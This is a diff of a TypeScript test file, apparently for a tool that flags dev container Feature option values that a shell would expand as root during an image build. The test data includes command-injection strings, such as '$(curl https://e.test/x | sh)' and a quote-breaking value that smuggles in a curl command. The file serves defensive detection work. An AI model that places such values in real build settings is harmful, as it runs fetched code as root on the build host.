@@ -42,18 +42,28 @@ const injected = (reading: Reading): string[] =>
   container(reading).oddities.flatMap(({ value }) => (value.kind === 'shell-expanded' ? [value.text] : []));
 
 describe('what a shell of the build takes for commands', () => {
-  test.each(['$(curl https://e.test/x | sh)', 'a`id`', '"; curl https://e.test/x; "', '" id "', '${V:-$(id)}'])(
-    'the option %j',
-    (value) => {
-      const reading = read({ image: 'x', features: { [id]: { version: value } } }, { features: { [id]: feature('1.0.0') } });
-      expect(injected(reading)).toEqual([
-        `the option version of Feature ${id} holds what a shell runs as root while the image is built: ${value}`,
-      ]);
-    },
-  );
+  test.each([
+    '$(curl https://e.test/x | sh)',
+    'a`id`',
+    '"; curl https://e.test/x; "',
+    '" id "',
+    '${V:-$(id)}',
+    '${V@P}',
+    '${V:-a',
+    'x\\',
+    'x"',
+    '"\'"',
+  ])('the option %j', (value) => {
+    const reading = read({ image: 'x', features: { [id]: { version: value } } }, { features: { [id]: feature('1.0.0') } });
+    expect(injected(reading)).toEqual([
+      `the option version of Feature ${id} holds what a shell runs as root while the image is built: ${value}`,
+    ]);
+  });
 
-  test.each(['latest', '1.22', 'a b; c', '${VERSION}', '$HOME/x', "it's", '"quoted"'])('not the option %j', (value) =>
-    expect(injected(read({ image: 'x', features: { [id]: { version: value } } }, { features: { [id]: feature('1.0.0') } }))).toEqual([]),
+  test.each(['latest', '1.22', 'a b; c', '${VERSION}', '${V:-a b}', '$HOME/x', "it's", '"quoted"', 'a\\\\', '\\"', '\\" id \\"', 'a\nb'])(
+    'not the option %j',
+    (value) =>
+      expect(injected(read({ image: 'x', features: { [id]: { version: value } } }, { features: { [id]: feature('1.0.0') } }))).toEqual([]),
   );
 
   test('a default of the Feature, and an option of what it depends on', () => {
